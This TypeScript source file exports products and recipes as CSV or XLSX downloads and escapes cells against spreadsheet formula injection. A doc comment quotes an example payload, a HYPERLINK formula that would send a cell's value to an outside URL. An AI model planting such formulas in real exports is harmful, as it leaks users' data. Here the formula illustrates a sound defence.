import Papa from 'papaparse';
import type { Context } from 'hono';
import type { AppEnv } from '../context.ts';

/** Tables as files (products and recipes, docs/decisions/0023-costs-import-export.md). */
export const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

/**
 * CSV with « ; » (what a French Excel opens in columns) and a BOM (so it reads UTF-8). A cell
 * that a spreadsheet would run as a formula (starting with = + - @, a tab or a carriage return:
 * `=HYPERLINK("http://…?x="&A1,"clic")` in a product's name) is written with a leading `'`
 * (papaparse's escapeFormulae, OWASP « CSV Injection »).
 */
export const toCsv = (rows: readonly (readonly string[])[], headers: readonly string[]): string =>
  `\uFEFF${Papa.unparse({ fields: [...headers], data: rows.map((r) => [...r]) }, { delimiter: ';', escapeFormulae: true })}\r\n`;

/**
 * ExcelJS, loaded on the first XLSX file rather than at start: about 0.3 s of the server's
 * start went into importing it, for a file read or written now and then
 * (docs/decisions/0031 « Start »).
 */
export const loadExcel = async () => (await import('exceljs')).default;

export async function toXlsx(
  rows: readonly (readonly string[])[],
  sheetName: string,
  headers: readonly string[],
): Promise<Uint8Array> {
  const ExcelJS = await loadExcel();
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet(sheetName);
  sheet.addRow([...headers]).font = { bold: true };
  // Strings stay text cells: ExcelJS writes a formula only from a `{ formula }` value.
  for (const row of rows) sheet.addRow([...row]);
  sheet.columns.forEach((column) => (column.width = 18));
  return new Uint8Array(await book.xlsx.writeBuffer());
}

/** Answers a table as an attachment, CSV or XLSX. */
export async function sendTable(
  c: Context<AppEnv>,
  format: 'csv' | 'xlsx',
  name: string,
  rows: string[][],
  headers: readonly string[],
) {
  c.header('Content-Disposition', `attachment; filename="${name}.${format}"`);
  // An organisation's data: never kept by a shared cache or the browser's disk cache.
  c.header('Cache-Control', 'private, no-store');
  if (format === 'csv') {
    c.header('Content-Type', 'text/csv; charset=utf-8');
    return c.body(toCsv(rows, headers));
  }
  c.header('Content-Type', XLSX_TYPE);
  return c.body((await toXlsx(rows, name, headers)) as Uint8Array<ArrayBuffer>);
}
